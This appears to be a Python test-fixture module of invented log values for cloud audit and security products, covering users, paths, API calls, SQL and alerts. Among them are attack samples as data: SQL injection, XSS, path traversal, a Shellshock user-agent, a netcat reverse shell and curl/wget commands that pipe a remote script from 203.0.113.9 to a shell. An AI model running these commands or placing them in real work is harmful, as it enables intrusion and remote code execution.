"""Invented values that the products' logs are filled with: several scripts, quotes, escapes, line breaks."""

from __future__ import annotations

REGIONS = ["cn-hangzhou", "cn-shanghai", "cn-beijing", "ap-southeast-1", "eu-central-1"]

USERS = ["alice", "audit-bot", "zhang.wei", "王芳", "o'brien", "svc_deploy", "müller", "DOMAIN\\admin"]

NAMES = [
    "生产环境-数据库01",
    "web-frontend-7",
    "テスト環境",
    'the "blue" one',
    "Zürich-edge",
    "резервный",
    "prod 🚀",
]

HOSTS = ["www.example.com", "api.example.cn", "shop.example.com.cn", "sso.corp.example", "例え.example"]

AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
    "AlibabaCloud (Linux; amd64) Java/1.8.0_362-b09 Core/4.6.3 HTTPClient/ApacheHttpClient",
    "aliyun-sdk-python/2.13.36 Python/3.9.16 Linux/5.10.134-16.al8.x86_64",
    "console.aliyun.com",
    "curl/8.4.0",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
]

PATHS = [
    "/",
    "/api/v2/orders/20931/items",
    "/login",
    "/static/js/app.3f2a9c.js",
    "/搜索/结果",
    "/wp-login.php",
    "/healthz",
    "/a/b/c/../../etc/passwd",
]

OBJECTS = [
    "logs/2026/01/part-00017.parquet",
    "图片/产品/封面.png",
    "backup/mysql/full_20260101.xbstream",
    "user uploads/report (final).docx",
    "models/v3/weights.bin",
]

ATTACKS = [
    ("sqli", "id=1' UNION SELECT username, password FROM users -- "),
    ("xss", 'q=<script>alert("xss")</script>'),
    ("lfilei", "file=..%2f..%2f..%2fetc%2fpasswd%00"),
    ("code_exec", "cmd=;wget${IFS}http://203.0.113.9/x.sh|sh"),
    ("other", "name=测试&备注=\\u4e2d\\x00"),
]

POLICY = (
    '{"Version":"1","Statement":[{"Effect":"Allow","Action":["oss:Get*","oss:List*"],'
    '"Resource":"acs:oss:*:*:audit-archive/*","Condition":{"IpAddress":{"acs:SourceIp":"10.0.0.0/8"}}}]}'
)

# Service, call, read or write, and the parameters of that call.
API_CALLS: list[tuple[str, str, str, dict[str, object]]] = [
    ("Ecs", "DescribeInstances", "Read", {"PageSize": 50, "PageNumber": 1, "Status": "Running"}),
    ("Ecs", "RunInstances", "Write", {"ImageId": "aliyun_3_x64_20G", "Amount": 2, "Tag.1.Value": "成本中心"}),
    (
        "Ecs",
        "AuthorizeSecurityGroup",
        "Write",
        {"IpProtocol": "tcp", "PortRange": "22/22", "SourceCidrIp": "0.0.0.0/0", "Description": "临时\n开放"},
    ),
    ("Ram", "CreateAccessKey", "Write", {"UserName": "ci-runner"}),
    ("Ram", "CreatePolicy", "Write", {"PolicyName": "readonly-audit", "PolicyDocument": POLICY}),
    ("Ram", "AttachPolicyToUser", "Write", {"PolicyType": "System", "PolicyName": "AdministratorAccess"}),
    (
        "Sts",
        "AssumeRole",
        "Write",
        {"RoleArn": "acs:ram::1234567890123456:role/ops", "DurationSeconds": 3600},
    ),
    ("Oss", "PutBucketAcl", "Write", {"bucket": "prod-assets", "acl": "public-read"}),
    (
        "Kms",
        "Decrypt",
        "Read",
        {"CiphertextBlob": "NjY2ZjZmMjA2MjYxNzI=", "EncryptionContext": {"app": "账单"}},
    ),
    ("Rds", "CreateAccount", "Write", {"AccountName": "dba", "AccountDescription": 'the "root" of \\ all'}),
    ("Sls", "DeleteLogStore", "Write", {"project": "audit-prod", "logstore": "actiontrail_all"}),
    ("AasCustomer", "ConsoleSignin", "Write", {"mfaChecked": "true", "callbackUrl": "https://home.console/"}),
]

ERRORS = [
    (
        "Forbidden.RAM",
        "User not authorized to operate on the resource, or this API doesn't support RAM.",
    ),
    ("InvalidParameter", 'The specified parameter "ImageId" is not valid.'),
    ("Throttling.User", "请求被流控，请稍后再试。"),
]

STATEMENTS = [
    "SELECT id, name, phone FROM customers WHERE name LIKE '%张%' ORDER BY id DESC LIMIT 20",
    "UPDATE orders\n   SET status = 'PAID', note = 'it''s done'\n WHERE id = 20931\n   AND version = 7",
    "INSERT INTO trail (who, what, raw) VALUES ('王芳', 'export', '{\"path\": \"C:\\\\tmp\"}')",
    'select count(*) from `t_user` where `email` = "a@example.com"\tand deleted = 0',
    "CALL sp_monthly_report('2026-01', @out)",
    "SET NAMES utf8mb4",
    "DELETE FROM sessions WHERE expires_at < NOW() - INTERVAL 7 DAY /* 清理 */",
]

ALERTS = [
    ("可疑的进程启动", {"cmd": "nc -e /bin/sh 203.0.113.7 4444", "level": "serious", "path": "/var/run/.x"}),
    ("网站后门文件", {"file": "C:\\inetpub\\wwwroot\\a.aspx", "md5": "9e107d9d372bb6826bd81d3542a419d6"}),
    ("Unusual login location", {"account": "root", "location": "São Paulo", "note": 'said "hello"'}),
]

COMMANDS = [
    "/usr/bin/python3 -c 'import os; print(\"ok\")'",
    'sh -c "curl -s http://203.0.113.9/i.sh | bash"',
    "/usr/sbin/cron -f",
    "powershell.exe -EncodedCommand SQBFAFgA -WindowStyle Hidden",
    "tar czf /备份/etc.tgz /etc",
]
